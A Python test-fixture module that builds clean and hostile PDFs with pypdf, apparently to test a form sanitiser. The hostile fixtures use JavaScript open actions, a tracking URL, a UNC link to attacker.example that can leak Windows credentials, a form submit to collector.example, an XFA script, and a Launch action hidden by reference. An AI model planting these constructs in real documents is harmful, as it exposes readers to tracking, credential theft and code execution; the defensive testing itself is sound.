"""PDFs made with pypdf for the form tests: good ones and hostile ones."""

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _write(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def form_pdf(author="Secret Author"):
    """A one-page PDF with document information and XMP metadata naming its author."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Author": author, "/Title": "Application form"})
    xmp = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Metadata")}))
    writer._root_object[NameObject("/Metadata")] = xmp
    return _write(writer)


def _javascript_action():
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )


def pdf_with_open_action_script():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = _javascript_action()
    return _write(writer)


def pdf_with_named_script():
    """JavaScript in the document's name tree, run when it opens."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), _javascript_action()])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    return _write(writer)


def pdf_with_page_action():
    """An additional action (/AA) on a page: it runs when the page opens."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript_action()})
    return _write(writer)


def _name(value):
    return NameObject(value)


def _dictionary(**entries):
    """A PDF dictionary from keyword arguments, each key written without its slash."""
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def _stream(data, **entries):
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update(_dictionary(**entries))
    return stream


def _rect(*numbers):
    return ArrayObject(FloatObject(number) for number in numbers)


def _with_annotation(writer, page, annotation):
    reference = writer._add_object(annotation)
    page[NameObject("/Annots")] = ArrayObject([reference])
    return reference


def fillable_form_pdf():
    """A one-page form as a service guide would hold it: a label drawn in the page's
    content, a text field (a widget with its appearance), links to a web page and
    an email address, and the language it is written in."""
    return _write(_fillable_form())


def _fillable_form():
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = writer._add_object(
        _dictionary(Type=_name("/Font"), Subtype=_name("/Type1"), BaseFont=_name("/Helvetica"))
    )
    page[NameObject("/Resources")] = _dictionary(Font=_dictionary(Helv=font))
    page[NameObject("/Contents")] = writer._add_object(
        _stream(b"BT /Helv 12 Tf 72 770 Td (Full name) Tj ET")
    )
    appearance = writer._add_object(
        _stream(
            b"/Tx BMC EMC",
            Type=_name("/XObject"),
            Subtype=_name("/Form"),
            BBox=_rect(0, 0, 280, 20),
            Resources=_dictionary(Font=_dictionary(Helv=font)),
        )
    )
    field = writer._add_object(
        _dictionary(
            Type=_name("/Annot"),
            Subtype=_name("/Widget"),
            FT=_name("/Tx"),
            T=TextStringObject("applicant_name"),
            TU=TextStringObject("Applicant's name"),
            Rect=_rect(200, 760, 480, 780),
            F=NumberObject(4),
            P=page.indirect_reference,
            DA=TextStringObject("/Helv 0 Tf 0 g"),
            AP=_dictionary(N=appearance),
        )
    )
    links = [
        _link(writer, "https://www.example.gov/guides/visa", (72, 700, 300, 715)),
        _link(writer, "mailto:consular@example.gov", (72, 680, 300, 695)),
    ]
    page[NameObject("/Annots")] = ArrayObject([field, *links])
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(
        _dictionary(
            Fields=ArrayObject([field]),
            DA=TextStringObject("/Helv 0 Tf 0 g"),
            DR=_dictionary(Font=_dictionary(Helv=font)),
        )
    )
    writer._root_object[NameObject("/Lang")] = TextStringObject("en-GB")
    return writer


def _link(writer, uri, rect):
    return writer._add_object(
        _dictionary(
            Type=_name("/Annot"),
            Subtype=_name("/Link"),
            Rect=_rect(*rect),
            Border=ArrayObject([NumberObject(0)] * 3),
            A=_dictionary(S=_name("/URI"), URI=TextStringObject(uri)),
        )
    )


def pdf_with_open_action_link():
    """An address visited when the file opens: the sender learns who opened it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = _dictionary(
        S=_name("/URI"), URI=TextStringObject("https://tracker.example/opened?form=1")
    )
    return _write(writer)


def pdf_with_remote_link():
    """A link opening a file on a network share (GoToR to a UNC path): following it
    can send the reader's Windows credentials to that server."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = _dictionary(
        S=_name("/GoToR"),
        F=TextStringObject(r"\\attacker.example\share\form.pdf"),
        D=ArrayObject([NumberObject(0), _name("/Fit")]),
    )
    _with_annotation(
        writer,
        page,
        _dictionary(
            Type=_name("/Annot"), Subtype=_name("/Link"), Rect=_rect(72, 700, 300, 715), A=action
        ),
    )
    return _write(writer)


def pdf_with_submit_button():
    """A push button that sends the filled-in form to another server."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = _dictionary(
        S=_name("/SubmitForm"),
        F=_dictionary(FS=_name("/URL"), F=TextStringObject("https://collector.example/form")),
    )
    button = _with_annotation(
        writer,
        page,
        _dictionary(
            Type=_name("/Annot"),
            Subtype=_name("/Widget"),
            FT=_name("/Btn"),
            Ff=NumberObject(1 << 16),
            T=TextStringObject("send"),
            Rect=_rect(72, 100, 172, 130),
            A=action,
        ),
    )
    writer._root_object[NameObject("/AcroForm")] = _dictionary(Fields=ArrayObject([button]))
    return _write(writer)


XFA_SCRIPT = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="form1"><event activity="initialize">
<script contentType="application/x-javascript">app.alert("xfa");</script>
</event></subform></template></xdp:xdp>"""


def pdf_with_xfa_script():
    """An AcroForm whose XFA stream holds a script, with no /JS key anywhere."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    xfa = writer._add_object(_stream(XFA_SCRIPT))
    writer._root_object[NameObject("/AcroForm")] = _dictionary(Fields=ArrayObject(), XFA=xfa)
    return _write(writer)


def pdf_with_embedded_html():
    """An HTML page attached to the document through its name tree."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    html = writer._add_object(
        _stream(b"<html><script>alert(1)</script></html>", Type=_name("/EmbeddedFile"))
    )
    filespec = _dictionary(
        Type=_name("/Filespec"), F=TextStringObject("guide.html"), EF=_dictionary(F=html)
    )
    writer._root_object[NameObject("/Names")] = _dictionary(
        EmbeddedFiles=_dictionary(
            Names=ArrayObject([TextStringObject("guide.html"), writer._add_object(filespec)])
        )
    )
    return _write(writer)


def form_with_unlisted_content_pdf():
    """The fillable form with what is harmless but no part of a form, each carrying a
    marker: an opening view, a bookmark, a comment, a reset button, a page's private
    data and a catalog entry no reader knows; and a second page the first links to,
    once directly and once by a name."""
    writer = _fillable_form()
    page = writer.pages[0]
    second = writer.add_blank_page(595, 842)
    root = writer._root_object
    root[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, _name("/Fit")])
    root[NameObject("/Marker")] = writer._add_object(_stream(b"unlisted-marker"))
    root[NameObject("/Outlines")] = writer._add_object(
        _dictionary(Type=_name("/Outlines"), Title=TextStringObject("bookmark-marker"))
    )
    page[NameObject("/PieceInfo")] = _dictionary(
        Editor=_dictionary(Private=TextStringObject("piece-marker"))
    )
    comment = _dictionary(
        Type=_name("/Annot"),
        Subtype=_name("/Text"),
        Rect=_rect(500, 800, 520, 820),
        Contents=TextStringObject("comment-marker"),
    )
    reset = _dictionary(
        Type=_name("/Annot"),
        Subtype=_name("/Widget"),
        FT=_name("/Btn"),
        Ff=NumberObject(1 << 16),
        T=TextStringObject("clear"),
        Rect=_rect(72, 100, 172, 130),
        A=_dictionary(
            S=_name("/ResetForm"), Fields=ArrayObject([TextStringObject("reset-marker")])
        ),
    )
    to_second = _dictionary(
        Type=_name("/Annot"),
        Subtype=_name("/Link"),
        Rect=_rect(72, 660, 300, 675),
        A=_dictionary(S=_name("/GoTo"), D=ArrayObject([second.indirect_reference, _name("/Fit")])),
    )
    root[NameObject("/Dests")] = _dictionary(
        second=ArrayObject([second.indirect_reference, _name("/Fit")])
    )
    by_name = _dictionary(
        Type=_name("/Annot"),
        Subtype=_name("/Link"),
        Rect=_rect(72, 640, 300, 655),
        Dest=_name("/second"),
    )
    added = [writer._add_object(annotation) for annotation in (comment, reset, to_second, by_name)]
    page["/Annots"].extend(added)
    root["/AcroForm"]["/Fields"].append(added[1])
    return _write(writer)


def pdf_with_launch_by_reference():
    """A link starting a program, its action type stored as a separate object so that
    a look at the action dictionary's own values does not see the name."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = _dictionary(
        S=writer._add_object(_name("/Launch")), F=TextStringObject("C:\\Windows\\calc.exe")
    )
    _with_annotation(
        writer,
        page,
        _dictionary(
            Type=_name("/Annot"),
            Subtype=_name("/Link"),
            Rect=_rect(72, 700, 300, 715),
            A=writer._add_object(action),
        ),
    )
    return _write(writer)
